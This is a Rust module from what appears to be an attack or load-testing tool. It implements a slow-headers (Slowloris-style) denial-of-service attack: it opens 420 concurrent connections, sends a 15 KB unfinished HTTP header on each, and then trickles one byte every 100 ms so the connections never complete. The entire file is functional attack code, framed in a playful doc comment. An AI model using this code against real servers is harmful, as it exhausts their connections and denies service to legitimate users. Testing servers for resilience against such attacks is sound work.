//! Heads of requests: as long as the house reads them, said so slowly that they never end.

use super::Attacker;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::time::interval;

const AT_ONCE: usize = 420;
const LONG: usize = 15 * 1024;

pub(super) async fn attack(attacker: Attacker) {
    let speak = async |attacker: Attacker, _| {
        if let Ok(mut stream) = attacker.connect().await {
            let head = format!("GET / HTTP/1.1\r\nx: {}", "x".repeat(LONG));
            let mut said = stream.write_all(head.as_bytes()).await;
            let mut ticks = interval(Duration::from_millis(100));
            while said.is_ok() {
                attacker.tally.done();
                ticks.tick().await;
                said = stream.write_all(b"x").await;
            }
        }
        attacker.tally.refused();
    };
    attacker.over_and_over(0..AT_ONCE, speak).await;
}
